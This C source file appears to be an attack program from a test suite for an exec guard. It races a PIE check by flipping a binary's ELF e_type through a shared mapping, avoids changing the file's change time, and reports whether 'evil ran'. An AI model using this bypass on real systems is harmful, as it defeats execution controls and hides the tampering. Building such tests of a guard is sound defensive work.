/*
 * tamper - let a program without PIE look like one with it, but for the moment
 * when it is loaded.  Rows R5 and L7.
 *
 * usage: ESCAPE_MARK=FILE tamper race ROUNDS PROGRAM
 *        ESCAPE_MARK=FILE tamper silent 1 PROGRAM
 *        ESCAPE_MARK=FILE tamper beneath ROUNDS PROGRAM FILE
 *
 * PROGRAM is one without PIE, and ours to write; what is changed is e_type,
 * through a shared mapping.  While its page stays dirty that leaves the change
 * time of the file alone.
 *
 *	race    PROGRAM is looked at, as a guard would, and run when it seems to
 *		have PIE; meanwhile that ends, and the mapping with it: a file
 *		that somebody can write to is not run (ETXTBSY)
 *	silent  it runs as one with PIE, which it does not live through; a
 *		second later it is changed by a new mapping of which a page was
 *		read before it was written to
 *	beneath the same as race, but without an end: FILE is what lies beneath
 *		PROGRAM in an overlay, and may be written to while that is run
 *
 * Prints "N rounds: E evil ran, R refused, K killed, O ended otherwise, change
 * time kept|moved", and ESCAPED, with status 1, if evil ran.
 */
#include <elf.h>
#include <fcntl.h>
#include <stdbool.h>
#include <stdint.h>
#include <sys/mman.h>
#include <time.h>

#include "attack.h"

#define TYPE_AT    16 /* e_type, in both classes */
#define LATEST_US  3000
#define SETTLED_NS 1300000000L

static int n_refused, n_killed, n_other;
static const char *program;

static volatile char *
map(void)
{
	int fd = open(program, O_RDWR | O_CLOEXEC);
	void *at = mmap(NULL, 4096, PROT_READ | PROT_WRITE, MAP_SHARED, fd, 0);

	if (fd < 0 || at == MAP_FAILED) {
		perror(program);
		exit(ATTACK_UNTRIED);
	}
	(void)close(fd);
	return at;
}

static void
unmap(volatile char *at)
{
	(void)munmap((void *)(uintptr_t)at, 4096);
}

static struct timespec
changed(void)
{
	struct stat st;

	if (stat(program, &st) < 0)
		exit(ATTACK_UNTRIED);
	return st.st_ctim;
}

static char
look(void)
{
	int fd = open(program, O_RDONLY | O_CLOEXEC);
	char type = 0;

	(void)!pread(fd, &type, 1, TYPE_AT);
	(void)close(fd);
	return type;
}

static _Noreturn void
become(void)
{
	char *words[] = { (char *)(uintptr_t)program, NULL };

	(void)alarm(10);
	do {
		if (look() != ET_DYN)
			_exit(CHILD_REFUSED);
		(void)execv(program, words);
	} while (errno == ETXTBSY);
	exec_failed();
}

static void
count(pid_t child)
{
	int status = 0;

	(void)waitpid(child, &status, 0);
	if (WIFSIGNALED(status) && WTERMSIG(status) == SIGKILL)
		n_killed++;
	else if (WIFEXITED(status) && WEXITSTATUS(status) == CHILD_REFUSED)
		n_refused++;
	else if (!WIFEXITED(status) || WEXITSTATUS(status) != 0)
		n_other++;
}

/* Returns whether its change time was moved by the second write. */
static bool
race_once(void)
{
	const struct timespec pause = { 0, random() % LATEST_US * 1000 };
	volatile char *at = map();
	struct timespec before, after;
	pid_t child;

	at[TYPE_AT] = ET_DYN;
	before = changed();
	child = fork();
	if (child == 0) {
		unmap(at); /* or it would keep the file busy */
		become();
	}
	(void)nanosleep(&pause, NULL);
	at[TYPE_AT] = ET_EXEC;
	unmap(at);
	after = changed();
	count(child);
	return before.tv_sec != after.tv_sec || before.tv_nsec != after.tv_nsec;
}

/* One that says one thing and its opposite for as long as it is asked. */
static pid_t
flip(const char *file)
{
	static const char types[2] = { ET_DYN, ET_EXEC };
	pid_t child = fork();
	int fd;

	if (child != 0)
		return child;
	(void)alarm(60);
	fd = open(file, O_WRONLY | O_CLOEXEC);
	for (unsigned i = 0; pwrite(fd, &types[i % 2], 1, TYPE_AT) == 1; i++)
		;
	perror(file);
	_exit(ATTACK_UNTRIED);
}

static void
run_once(void)
{
	char *words[] = { (char *)(uintptr_t)program, NULL };
	pid_t child = fork();

	if (child == 0) {
		(void)alarm(10);
		(void)execv(program, words);
		exec_failed();
	}
	count(child);
}

static void
wait_until_settled(void)
{
	const struct timespec pause = { 0, 20000000 };
	struct timespec then = changed(), now;

	do {
		(void)nanosleep(&pause, NULL);
		(void)clock_gettime(CLOCK_REALTIME, &now);
	} while ((now.tv_sec - then.tv_sec) * 1000000000L + now.tv_nsec -
		     then.tv_nsec <
		 SETTLED_NS);
}

static bool
silent(void)
{
	volatile char *at = map();
	struct timespec before, after;
	bool was_good;

	at[TYPE_AT] = ET_DYN;
	unmap(at);
	wait_until_settled();
	run_once();
	at = map();
	was_good = at[TYPE_AT] == ET_DYN;
	before = changed();
	at[TYPE_AT] = ET_EXEC;
	unmap(at);
	after = changed();
	if (!was_good)
		exit(ATTACK_UNTRIED);
	run_once();
	return before.tv_sec != after.tv_sec || before.tv_nsec != after.tv_nsec;
}

static bool
tamper(const char *how, int rounds, const char *beneath)
{
	bool is_moved = false;
	pid_t flipper = beneath != NULL ? flip(beneath) : 0;

	for (int i = 0; i < rounds; i++)
		if (beneath != NULL)
			run_once();
		else if (strcmp(how, "race") == 0)
			is_moved |= race_once();
		else
			is_moved |= silent();
	if (flipper > 0 && kill(flipper, SIGKILL) == 0)
		(void)waitpid(flipper, NULL, 0);
	return is_moved;
}

int
main(int argc, char **argv)
{
	long before = mark_count(), n_evil;
	int rounds = argc > 3 ? atoi(argv[2]) : 0;
	bool is_moved;

	if (argc != 4 && argc != 5) {
		fputs("usage: tamper race|silent|beneath ROUNDS PROGRAM "
		      "[FILE]\n",
		    stderr);
		return ATTACK_UNTRIED;
	}
	program = argv[3];
	is_moved = tamper(argv[1], rounds, argv[4]);
	n_evil = mark_count() - before;
	printf("%d rounds: %ld evil ran, %d refused, %d killed, %d ended "
	       "otherwise, change time %s\n",
	    rounds, n_evil, n_refused, n_killed, n_other,
	    is_moved ? "moved" : "kept");
	if (n_evil == 0)
		return ATTACK_STOPPED;
	puts("ESCAPED");
	return ATTACK_ESCAPED;
}
